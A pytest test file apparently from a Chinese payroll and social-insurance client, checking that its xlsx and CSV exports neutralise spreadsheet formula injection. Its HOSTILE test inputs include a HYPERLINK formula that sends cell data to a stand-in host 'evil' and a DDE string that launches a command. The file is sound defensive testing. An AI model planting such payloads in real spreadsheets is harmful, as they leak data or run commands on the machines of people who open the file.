"""Every xlsx the client writes, fed hostile text: no cell is a formula, IDs are text,
amounts are numbers. And csv cells that a spreadsheet would run get a leading '."""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from client.core import (
    enrollment,
    export,
    fee_check,
    wage_base,
    wage_context,
    wage_import,
    wage_report,
    xlsx,
)
from client.core.store import Store
from rules.codes import id_check_char
from rules.packs import load_pack

HOSTILE = (
    '=HYPERLINK("http://evil/?"&B2,"x")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
UNIT_NUMBER = "0011010500000001"  # leading zeros: text or it loses them
TODAY = dt.date(2025, 3, 15)


def make_id(n: int) -> str:
    first = f"11010519900101{n:03d}"
    return first + id_check_char(first)


def cells(path: Path | bytes) -> list[list[openpyxl.cell.Cell]]:
    source = io.BytesIO(path) if isinstance(path, bytes) else path
    book = openpyxl.load_workbook(source)
    return [row for sheet in book.worksheets for row in sheet.iter_rows()]


def assert_no_formula(rows: list[list[openpyxl.cell.Cell]]) -> None:
    formulas = [c.coordinate for row in rows for c in row if c.data_type == "f"]
    assert formulas == []


def column(path: Path, title: str, sheet: int = 0, header_row: int = 1) -> list[openpyxl.cell.Cell]:
    ws = openpyxl.load_workbook(path).worksheets[sheet]
    titles = [c.value for c in ws[header_row]]
    index = titles.index(title) + 1
    return [ws.cell(r, index) for r in range(header_row + 1, ws.max_row + 1)]


def hostile_texts(rows: list[list[openpyxl.cell.Cell]]) -> set[str]:
    """The hostile values found back as text cells (control characters as Excel stores them)."""
    found = set()
    for row in rows:
        for c in row:
            if c.data_type == "s" and isinstance(c.value, str):
                # Excel's _xHHHH_ escape for control characters (openpyxl leaves it as is).
                value = re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), c.value)
                found.update(h for h in HOSTILE if h in value)
    return found


@pytest.fixture
def store(engine_store: Store) -> Store:
    """Each test runs on SQLite and on PostgreSQL (tests/conftest.py)."""
    return engine_store


@pytest.fixture
def unit_pk(store: Store) -> int:
    """A unit whose employees are named with every hostile value."""
    with store.write() as db:
        unit = db.execute_sql(
            "INSERT INTO unit (taxpayer_id, taxside_unit_id, name, region, added_at) "
            "VALUES ('91110105MA01ABCD1X', 'U000001', '测试单位', '110000', '2025-03-15 08:00:00') RETURNING id"
        ).fetchone()[0]
        rows = [
            (unit, f"E{n:09d}", name, "201", make_id(n), "男", "1990-01-01", UNIT_NUMBER,
             '["pension", "medical"]', "正常缴费", json.dumps({"pension": "8000.50", "medical": "12345.67"}),
             "2025-03-15T08:00:00", "2025-03-15 08:00:00")
            for n, name in enumerate(HOSTILE, start=1)
        ]  # fmt: skip
        db.executemany(
            "INSERT INTO enrollment_employee (unit_id, employee_id, name, id_type, id_number, gender, birth_date, "
            "unit_number, items, status, bases, taxside_updated_at, synced_at) "
            "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
            rows,
        )
        db.executemany(
            "INSERT INTO enrollment_change (unit_id, employee_id, name, id_type, id_number, kind, fields, changed_at) "
            "VALUES (?, ?, ?, '201', ?, '变更', ?, '2025-03-15 09:00:00')",
            [
                (unit, f"E{n:09d}", name, make_id(n), json.dumps([{"field": "姓名", "old": name, "new": name}]))
                for n, name in enumerate(HOSTILE, start=1)
            ],
        )
    return int(unit)


def test_enrollment_export(store: Store, unit_pk: int, tmp_path: Path) -> None:
    target = tmp_path / "参保职工.xlsx"
    assert enrollment.export_xlsx(store, unit_pk, target) == len(HOSTILE)
    rows = cells(target)
    assert_no_formula(rows)
    assert [c.value for c in rows[0]] == list(enrollment.EXPORT_HEADERS)
    assert hostile_texts(rows) == set(HOSTILE)
    ids = column(target, "证件号码")
    assert {c.value for c in ids} == {make_id(n) for n in range(1, len(HOSTILE) + 1)}
    assert all(c.data_type == "s" and c.number_format == "@" for c in ids)
    numbers = column(target, "单位编号")
    assert all(c.value == UNIT_NUMBER and c.data_type == "s" for c in numbers)
    pension = column(target, "养老基数")
    assert all(c.data_type == "n" and c.value == 8000.5 and c.number_format == "#,##0.00" for c in pension)
    assert all(c.value == 12345.67 for c in column(target, "医疗基数"))
    assert all(c.value is None for c in column(target, "失业基数"))  # not enrolled: empty, not 0
    # The bench's floor writes these same cells.
    assert [len(enrollment.export_cells(r)) for r in store.db.execute_sql(
        enrollment.EXPORT_SQL, (unit_pk,))] == [len(enrollment.EXPORT_COLUMNS)] * len(HOSTILE)  # fmt: skip


def test_enrollment_change_export(store: Store, unit_pk: int, tmp_path: Path) -> None:
    target = tmp_path / "更新数据.xlsx"
    count = enrollment.export_changes_xlsx(store, unit_pk, target, enrollment.EnrollmentFilter())
    assert count == len(HOSTILE)
    rows = cells(target)
    assert_no_formula(rows)
    assert [c.value for c in rows[0]] == list(enrollment.CHANGE_HEADERS)
    assert hostile_texts(rows) == set(HOSTILE)
    assert all(c.data_type == "s" and len(c.value) == 18 for c in column(target, "证件号码"))


@pytest.mark.parametrize("kind", ["daily", "annual"])
def test_wage_base_export(store: Store, unit_pk: int, tmp_path: Path, kind: str) -> None:
    today = TODAY if kind == "daily" else dt.date(2025, 8, 1)
    ctx = wage_context.DraftContext(unit_pk, kind, load_pack("110000"), today, False)
    assert wage_base.add_by_unit_number(store, ctx, UNIT_NUMBER).added == len(HOSTILE)
    ids = [r["id"] for r in wage_base.search(store, ctx, wage_base.PageRequest(size=100), wage_base.DraftFilter()).rows]
    month = {"effective_month": "202503"} if kind == "daily" else {}
    wage_base.batch_modify(store, ctx, ids[:3], amount="9100.5", **month)
    target = tmp_path / f"{kind}.xlsx"
    assert wage_base.export_xlsx(store, ctx, None, target) == len(HOSTILE)
    rows = cells(target)
    assert_no_formula(rows)
    assert hostile_texts(rows) == set(HOSTILE)
    assert [c.value for c in rows[0]] == [c.title for c in wage_base.export_columns(kind)]
    assert all(c.data_type == "s" for c in column(target, "证件号码"))
    assert all(c.value == UNIT_NUMBER and c.data_type == "s" for c in column(target, "单位编号"))
    current = column(target, "当前缴费工资")
    assert all(c.data_type == "n" and c.value == 8000.5 and c.number_format == "#,##0.00" for c in current)
    new = [c.value for c in column(target, "新缴费工资")]
    assert new.count(9100.5) == 3 and new.count(None) == len(HOSTILE) - 3
    if kind == "daily":
        months = [c for c in column(target, "生效年月") if c.value is not None]
        assert len(months) == 3 and all(c.value == "202503" and c.data_type == "s" for c in months)
    # The file still imports: the numbers come back to the cent.
    result = wage_import.import_file(target.read_bytes(), "draft.xlsx", wage_base.enrolled(store, unit_pk), ctx)
    assert {r.new_base for r in result.rows} == {"9100.50"}


def test_audit_export(tmp_path: Path) -> None:
    rows = [["2025-03-15 09:00:00", "clerk", "导入", f"导入文件 {name}.xlsx"] for name in HOSTILE]
    rows += [["2025-03-15 09:00:00", name, name, name] for name in HOSTILE]
    data = export.to_xlsx(["时间", "操作员", "操作", "内容"], rows, sheet="操作日志")
    found = cells(data)
    assert_no_formula(found)
    assert hostile_texts(found) == set(HOSTILE)
    assert found[1][3].value == f"导入文件 {HOSTILE[0]}.xlsx"
    assert found[len(HOSTILE) + 1][1].value == HOSTILE[0] and found[len(HOSTILE) + 1][1].data_type == "s"


def test_fee_check_export(tmp_path: Path) -> None:
    """差异导出 (client/core/fee_check.py) by the same rules."""
    item = fee_check.ItemCheck(
        summary_id=HOSTILE[0], label="x", item="pension", item_name=HOSTILE[1], part="unit", part_name="单位",
        period_label="2025-03", unit_number=UNIT_NUMBER, agency=HOSTILE[4], tax_headcount=2, local_headcount=2,
        tax_base_total=Decimal("16001.00"), local_base_total=Decimal("16001.00"), tax_amount=Decimal("3200.20"),
        local_amount=Decimal("3200.20"), details_checked=True, differences=len(HOSTILE),
    )  # fmt: skip
    diffs = tuple(
        fee_check.EmployeeDifference(
            summary_id="S1", item_name="养老", part_name="单位", period="202503", kind="base",
            employee_id=f"E{n}", name=name, id_type="居民身份证", id_number=make_id(n),
            tax_base=Decimal("8000.50"), local_base=Decimal("8100.00"), tax_amount=None, local_amount=None,
        )  # fmt: skip
        for n, name in enumerate(HOSTILE, start=1)
    )
    result = fee_check.FeeCheck((item,), diffs, False, None, None)
    target = tmp_path / "差异.xlsx"
    assert fee_check.export_xlsx(result, target) == len(HOSTILE)
    rows = cells(target)
    assert_no_formula(rows)
    assert hostile_texts(rows) == set(HOSTILE)
    assert all(c.data_type == "s" for c in column(target, "证件号码", sheet=1))
    assert all(c.data_type == "n" and c.value == 8000.5 for c in column(target, "税务端计费基数", sheet=1))


# -- the wage import's files (client/core/wage_import.py): read-only checks of that writer -----------
def _hostile_import_file() -> bytes:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    for col, title in enumerate(["姓名", "证件类型", "证件号码", "新缴费工资", "生效年月", HOSTILE[0]]):
        sheet.write_string(0, col, title)
    for n, name in enumerate(HOSTILE, start=1):
        values = [name, "居民身份证", f"{make_id(n)[:-1]}0" if n % 2 else make_id(n), name, "202503", name]
        for col, value in enumerate(values):
            sheet.write_string(n, col, value)
    book.close()
    return buffer.getvalue()


def test_wage_import_error_report(store: Store, unit_pk: int, tmp_path: Path) -> None:
    ctx = wage_context.DraftContext(unit_pk, "daily", load_pack("110000"), TODAY, False)
    result = wage_import.import_file(_hostile_import_file(), "恶意.xlsx", wage_base.enrolled(store, unit_pk), ctx)
    assert result.problems
    target = tmp_path / "report.xlsx"
    wage_report.write_error_report(result, target)
    rows = cells(target)
    assert_no_formula(rows)
    assert HOSTILE[0] in hostile_texts(rows)


def test_wage_import_template(tmp_path: Path) -> None:
    people = [
        wage_import.Enrolled(f"E{n}", name, "201", make_id(n), UNIT_NUMBER, "正常缴费", "8000.50")
        for n, name in enumerate(HOSTILE, start=1)
    ]
    for kind in ("daily", "annual"):
        target = tmp_path / f"template-{kind}.xlsx"
        wage_report.write_template(target, kind, people)
        rows = cells(target)
        assert_no_formula(rows)
        assert hostile_texts(rows) == set(HOSTILE)
        assert all(c.data_type == "s" for c in column(target, "证件号码"))
        assert all(c.value == UNIT_NUMBER for c in column(target, "单位编号"))


# -- the helper itself ------------------------------------------------------------------------------
def test_writer_keeps_types(tmp_path: Path) -> None:
    columns = (xlsx.text("名称"), xlsx.code("编号"), xlsx.amount("金额"))
    rows = [
        ("=1+1", "000123", Decimal("1234.5")),
        ("+1", 42, "8000.00"),
        (None, "", None),
        ("-1", "X", "不是数字"),
        ("ok", "Y", float("nan")),
        ("ok", "Z", -12.5),
    ]
    target = tmp_path / "t.xlsx"
    assert xlsx.write_xlsx(target, "表", columns, rows) == len(rows)
    found = [[c.value for c in row] for row in cells(target)]
    assert found[0] == ["名称", "编号", "金额"]
    assert found[1:] == [
        ["=1+1", "000123", 1234.5],
        ["+1", "42", 8000.0],
        [None, None, None],
        ["-1", "X", "不是数字"],  # kept as text rather than lost
        ["ok", "Y", "nan"],
        ["ok", "Z", -12.5],
    ]
    assert_no_formula(cells(target))


def test_counts_are_whole_number_cells(tmp_path: Path) -> None:
    columns = (xlsx.code("编号"), xlsx.integer("人数"))
    rows = [("A", 12), ("B", "7"), ("C", Decimal("3")), ("D", None), ("E", "=1+1"), ("F", "2.5"), ("G", True)]
    target = tmp_path / "t.xlsx"
    xlsx.write_xlsx(target, "表", columns, rows)
    counts = [row[1] for row in cells(target)][1:]
    assert [c.value for c in counts] == [12, 7, 3, None, "=1+1", "2.5", "True"]
    assert [c.data_type for c in counts[:3]] == ["n", "n", "n"] and all(type(c.value) is int for c in counts[:3])
    assert counts[0].number_format == "0"
    assert [c.data_type for c in counts[4:]] == ["s", "s", "s"]  # not a count: kept as text, never a formula
    assert_no_formula(cells(target))


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_are_neutralised(value: str) -> None:
    assert xlsx.csv_text(value) == "'" + value


def test_csv_leaves_plain_text_and_numbers_alone() -> None:
    assert xlsx.csv_row(["张三", "11010519491231002X", "", None, -12.5, Decimal("-3.00"), 7]) == [
        "张三", "11010519491231002X", "", "", "-12.5", "-3.00", "7",
    ]  # fmt: skip


def test_fast_worksheet_writes_the_same_xml_as_xlsxwriter(tmp_path: Path) -> None:
    """The writer's short-cut worksheet (client/core/xlsx.py) changes speed, not output."""
    tricky = ["plain", "_x0041_", "a\x01b", "x\ufffey\uffff", '<&>"', " lead", "trail ", "\t=1", "\r=1",
              "line\nbreak", "=1+1", "居民身份证", "_x00zz_"]  # fmt: skip

    def sheet_xml(worksheet_class: type | None) -> bytes:
        target = tmp_path / f"{worksheet_class}.xlsx"
        book = xlsxwriter.Workbook(str(target), {"constant_memory": True})
        sheet = book.add_worksheet("s", worksheet_class=worksheet_class)
        text, money = book.add_format({"num_format": "@"}), book.add_format({"num_format": "#,##0.00"})
        sheet.set_column(1, 1, 20, text)
        for n, value in enumerate(tricky):
            sheet.write_string(n, 0, value)
            sheet.write_string(n, 1, value)
            sheet.write_number(n, 2, n + 0.5, money)
        book.close()
        with zipfile.ZipFile(target) as z:
            return z.read("xl/worksheets/sheet1.xml")

    assert sheet_xml(xlsx._Worksheet) == sheet_xml(None)
